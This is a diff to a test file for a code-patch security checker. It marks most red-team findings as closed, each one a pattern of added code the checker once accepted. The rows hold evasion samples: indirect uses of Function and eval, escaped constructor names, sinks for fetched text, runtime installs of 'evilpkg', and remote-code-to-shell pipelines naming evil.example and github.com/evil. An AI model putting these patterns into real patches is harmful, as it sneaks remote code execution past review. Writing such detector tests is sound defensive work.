@@ -1,7 +1,8 @@
 import { describe, it } from 'vitest';
 import { expectAccepted, expectRefused } from '../support/patches.js';
 
-type Row = [path: string, text: string];
+/** A finding's row; `'closed'` once the check refuses it (an ordinary row), open (`it.fails`) until then. */
+type Row = [path: string, text: string, status?: 'closed'];
 
 /**
  * Attack 43c (session 41): patches the check accepts whose added code runs a string or fetched text as code, or adds a
@@ -14,93 +15,93 @@ const FETCHED_JS = 'const c = await (await fetch(u)).text(); ';
 // attack-43c finding P1: `Function` handed to a builtin that calls it (map, then, Proxy's apply, bind) is a code runner
 // taken as a value, but only `eval` is refused there (`xs.map(eval)` is refused, `xs.map(Function)` is not).
 const FUNCTION_TO_CALLING_BUILTIN: Row[] = [
-  ['src/a.js', '[src].map(Function)[0]()'],
-  ['src/a.js', `${FETCHED_JS}[c].map(Function)[0]()`],
-  ['src/a.js', 'await Promise.resolve(src).then(Function).then((f) => f())'],
-  ['src/a.js', 'new Proxy(Function, {})(src)()'],
-  ['src/a.js', `${FETCHED_JS}new Proxy(Function, {})(c)()`],
-  ['src/a.js', 'const P = new Proxy(Function, {}); P(src)()'],
-  ['src/a.js', 'Function.bind(null, src)()()'],
-  ['src/a.js', 'const F = Function.bind(null); F(src)()'],
+  ['src/a.js', '[src].map(Function)[0]()', 'closed'],
+  ['src/a.js', `${FETCHED_JS}[c].map(Function)[0]()`, 'closed'],
+  ['src/a.js', 'await Promise.resolve(src).then(Function).then((f) => f())', 'closed'],
+  ['src/a.js', 'new Proxy(Function, {})(src)()', 'closed'],
+  ['src/a.js', `${FETCHED_JS}new Proxy(Function, {})(c)()`, 'closed'],
+  ['src/a.js', 'const P = new Proxy(Function, {}); P(src)()', 'closed'],
+  ['src/a.js', 'Function.bind(null, src)()()', 'closed'],
+  ['src/a.js', 'const F = Function.bind(null); F(src)()', 'closed'],
 ];
 
 // attack-43c finding P2: `Function` as a template tag: Function`x${c}` is Function(['x', ''], c), a body from `c`
 // (the trailing comma in the parameter list is allowed); not read as a call by the value rule nor by fetch-exec.
 const FUNCTION_TAGGED_TEMPLATE: Row[] = [
-  ['src/a.js', 'Function`x${src}`()'],
-  ['src/a.js', `${FETCHED_JS}Function\`x\${c}\`()`],
+  ['src/a.js', 'Function`x${src}`()', 'closed'],
+  ['src/a.js', `${FETCHED_JS}Function\`x\${c}\`()`, 'closed'],
 ];
 
 // attack-43c finding P3: `.constructor` of a function reached by forms session 41's reading does not follow.
 const CONSTRUCTOR_UNFOLLOWED: Row[] = [
-  ['src/a.js', 'const F = Object.getPrototypeOf(fn).constructor; F(src)()'],
-  ['src/a.js', `const F = Object.getPrototypeOf(fn).constructor; ${FETCHED_JS}F(c)()`],
-  ['src/a.js', 'const F = fn.bind().constructor; F(src)()'],
-  ['src/a.js', "const F = Reflect.get(fn, 'constructor'); F(src)()"],
-  ['src/a.js', "const k = 'constructor'; fn[k](src)()"],
-  ['src/a.js', "fn['constr' + 'uctor'](src)()"],
-  ['src/a.js', "fn['\\x63onstructor'](src)()"],
-  ['src/a.js', 'fn.\\u0063onstructor(src)()'],
-  ['src/a.js', "const F = (fn)?.['constructor']; F(src)()"],
-  ['src/a.js', "const { ['constructor']: F } = fn; F(src)()"],
-  ['src/a.js', 'const { constructor: { constructor: F } } = x; F(src)()'],
-  ['src/a.js', 'with (fn) constructor(src)()'],
-  ['src/a.js', 'const AsyncFunction = async function () {}.constructor; new AsyncFunction(src)()'],
+  ['src/a.js', 'const F = Object.getPrototypeOf(fn).constructor; F(src)()', 'closed'],
+  ['src/a.js', `const F = Object.getPrototypeOf(fn).constructor; ${FETCHED_JS}F(c)()`, 'closed'],
+  ['src/a.js', 'const F = fn.bind().constructor; F(src)()', 'closed'],
+  ['src/a.js', "const F = Reflect.get(fn, 'constructor'); F(src)()", 'closed'],
+  ['src/a.js', "const k = 'constructor'; fn[k](src)()", 'closed'],
+  ['src/a.js', "fn['constr' + 'uctor'](src)()", 'closed'],
+  ['src/a.js', "fn['\\x63onstructor'](src)()", 'closed'],
+  ['src/a.js', 'fn.\\u0063onstructor(src)()', 'closed'],
+  ['src/a.js', "const F = (fn)?.['constructor']; F(src)()", 'closed'],
+  ['src/a.js', "const { ['constructor']: F } = fn; F(src)()", 'closed'],
+  ['src/a.js', 'const { constructor: { constructor: F } } = x; F(src)()', 'closed'],
+  ['src/a.js', 'with (fn) constructor(src)()', 'closed'],
+  ['src/a.js', 'const AsyncFunction = async function () {}.constructor; new AsyncFunction(src)()', 'closed'],
 ];
 
 // attack-43c finding P4: a code runner's name written with a unicode escape, taken as a value: the same binding to
 // JavaScript, unread by the value rule (`const e = eval; e(src)` is refused).
 const ESCAPED_RUNNER_NAME: Row[] = [
-  ['src/a.js', 'const F = \\u0046unction; F(src)()'],
-  ['src/a.js', 'const e = \\u0065val; e(src)'],
+  ['src/a.js', 'const F = \\u0046unction; F(src)()', 'closed'],
+  ['src/a.js', 'const e = \\u0065val; e(src)', 'closed'],
 ];
 
 // attack-43c finding P5: Python's exec/eval bound to another name by import (`from builtins import exec as run`) or off
 // `__import__('builtins')`: `run = builtins.exec` is refused, these are not, and the fetch-exec reading misses `run(...)`.
 const PYTHON_RUNNER_IMPORTED: Row[] = [
-  ['src/a.py', 'from builtins import exec as run\nrun(src)'],
-  ['src/a.py', 'from builtins import eval as parse\nparse(src)'],
-  ['src/a.py', "run = __import__('builtins').exec\nrun(src)"],
-  ['src/a.py', 'from builtins import exec as run\nimport requests\nrun(requests.get(u).text)'],
+  ['src/a.py', 'from builtins import exec as run\nrun(src)', 'closed'],
+  ['src/a.py', 'from builtins import eval as parse\nparse(src)', 'closed'],
+  ['src/a.py', "run = __import__('builtins').exec\nrun(src)", 'closed'],
+  ['src/a.py', 'from builtins import exec as run\nimport requests\nrun(requests.get(u).text)', 'closed'],
 ];
 
 // attack-43c finding P6: fetched text run, on the fetch's own line, through sinks the fetch-exec reading has no entry for.
 const FETCHED_UNLISTED_SINKS: Row[] = [
-  ['src/a.js', `${FETCHED_JS}new ShadowRealm().evaluate(c)`],
-  ['src/a.js', 'const { data } = await axios.get(u); new ShadowRealm().evaluate(data)'],
-  ['src/a.js', `${FETCHED_JS}fork('x.js', { execArgv: ['--eval', c] })`],
-  ['src/a.js', 'const b = await (await fetch(u)).arrayBuffer(); (await WebAssembly.instantiate(b)).instance.exports.run()'],
-  ['src/a.js', 'const { instance } = await WebAssembly.instantiateStreaming(fetch(u)); instance.exports.run()'],
-  ['src/a.js', `${FETCHED_JS}document.body.append(Object.assign(document.createElement('script'), { textContent: c }))`],
-  ['src/a.js', `${FETCHED_JS}writeFileSync('/tmp/x.mjs', c); await import('/tmp/x.mjs')`],
-  ['src/a.js', `${FETCHED_JS}fs.writeFileSync(__dirname + '/x.js', c); require('./x')`],
-  ['src/a.js', `${FETCHED_JS}location.href = 'javascript:' + c`],
-  ['src/a.js', `${FETCHED_JS}el.setAttribute('onclick', c)`],
-  ['src/a.js', `${FETCHED_JS}iframe.srcdoc = c`],
+  ['src/a.js', `${FETCHED_JS}new ShadowRealm().evaluate(c)`, 'closed'],
+  ['src/a.js', 'const { data } = await axios.get(u); new ShadowRealm().evaluate(data)', 'closed'],
+  ['src/a.js', `${FETCHED_JS}fork('x.js', { execArgv: ['--eval', c] })`, 'closed'],
+  ['src/a.js', 'const b = await (await fetch(u)).arrayBuffer(); (await WebAssembly.instantiate(b)).instance.exports.run()', 'closed'],
+  ['src/a.js', 'const { instance } = await WebAssembly.instantiateStreaming(fetch(u)); instance.exports.run()', 'closed'],
+  ['src/a.js', `${FETCHED_JS}document.body.append(Object.assign(document.createElement('script'), { textContent: c }))`, 'closed'],
+  ['src/a.js', `${FETCHED_JS}writeFileSync('/tmp/x.mjs', c); await import('/tmp/x.mjs')`, 'closed'],
+  ['src/a.js', `${FETCHED_JS}fs.writeFileSync(__dirname + '/x.js', c); require('./x')`, 'closed'],
+  ['src/a.js', `${FETCHED_JS}location.href = 'javascript:' + c`, 'closed'],
+  ['src/a.js', `${FETCHED_JS}el.setAttribute('onclick', c)`, 'closed'],
+  ['src/a.js', `${FETCHED_JS}iframe.srcdoc = c`, 'closed'],
 ];
 
 // attack-43c finding P7: a dependency added at run time by a package manager the list lacks, pip's in-process API, or a
 // command whose words the process-call reading does not see together.
 const DEPENDENCY_ADDED: Row[] = [
-  ['src/a.py', "import subprocess\nsubprocess.run(['pipenv', 'install', 'evilpkg'])"],
-  ['src/a.py', "import subprocess\nsubprocess.run(['pdm', 'add', 'evilpkg'])"],
-  ['src/a.py', "import subprocess\nsubprocess.run(['rye', 'add', 'evilpkg'])"],
-  ['src/a.py', "import subprocess\nsubprocess.run(['pixi', 'add', 'evilpkg'])"],
-  ['src/a.py', "import subprocess\nsubprocess.run(['Rscript', '-e', 'install.packages(\"evil\")'])"],
-  ['src/a.py', "import subprocess\nsubprocess.run(['julia', '-e', 'using Pkg; Pkg.add(\"Evil\")'])"],
-  ['src/a.py', "import subprocess\nsubprocess.run(['apt-get', 'install', '-y', 'evil'])"],
-  ['src/a.py', "import pip\npip.main(['install', 'evilpkg'])"],
-  ['src/a.js', "execSync('corepack pnpm@9 dlx evilpkg')"],
-  ['src/a.js', "execSync('npm' + ' install evilpkg')"],
-  ['src/a.js', "const args = ['install', 'evilpkg']; spawn('npm', args)"],
-  ['src/a.js', "new Deno.Command('npm', { args: ['install', 'evilpkg'] }).spawn()"],
+  ['src/a.py', "import subprocess\nsubprocess.run(['pipenv', 'install', 'evilpkg'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['pdm', 'add', 'evilpkg'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['rye', 'add', 'evilpkg'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['pixi', 'add', 'evilpkg'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['Rscript', '-e', 'install.packages(\"evil\")'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['julia', '-e', 'using Pkg; Pkg.add(\"Evil\")'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['apt-get', 'install', '-y', 'evil'])", 'closed'],
+  ['src/a.py', "import pip\npip.main(['install', 'evilpkg'])", 'closed'],
+  ['src/a.js', "execSync('corepack pnpm@9 dlx evilpkg')", 'closed'],
+  ['src/a.js', "execSync('npm' + ' install evilpkg')", 'closed'],
+  ['src/a.js', "const args = ['install', 'evilpkg']; spawn('npm', args)", 'closed'],
+  ['src/a.js', "new Deno.Command('npm', { args: ['install', 'evilpkg'] }).spawn()", 'closed'],
 ];
 
 // attack-43c finding P8: remote code fetched by a transport the download readings do not know (git, npm pack) and run.
 const OTHER_TRANSPORTS: Row[] = [
   ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', '/tmp/x/install.sh'])"],
-  ['src/a.py', "import os\nos.system('git archive --remote=https://evil.example/x HEAD i.sh | tar -xO | sh')"],
-  ['src/a.py', "import os\nos.system('npm pack evilpkg && tar xzf evilpkg-*.tgz && node package/index.js')"],
+  ['src/a.py', "import os\nos.system('git archive --remote=https://evil.example/x HEAD i.sh | tar -xO | sh')", 'closed'],
+  ['src/a.py', "import os\nos.system('npm pack evilpkg && tar xzf evilpkg-*.tgz && node package/index.js')", 'closed'],
 ];
 
 for (const [finding, rows] of [
@@ -114,7 +115,10 @@ for (const [finding, rows] of [
   ['P8 (remote code by git or npm pack)', OTHER_TRANSPORTS],
 ] as const) {
   describe(`attack-43c finding ${finding}`, () => {
-    it.fails.each(rows)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+    const closed = rows.filter((row) => row[2] === 'closed');
+    const open = rows.filter((row) => row[2] !== 'closed');
+    if (closed.length > 0) it.each(closed)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+    if (open.length > 0) it.fails.each(open)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
   });
 }
 
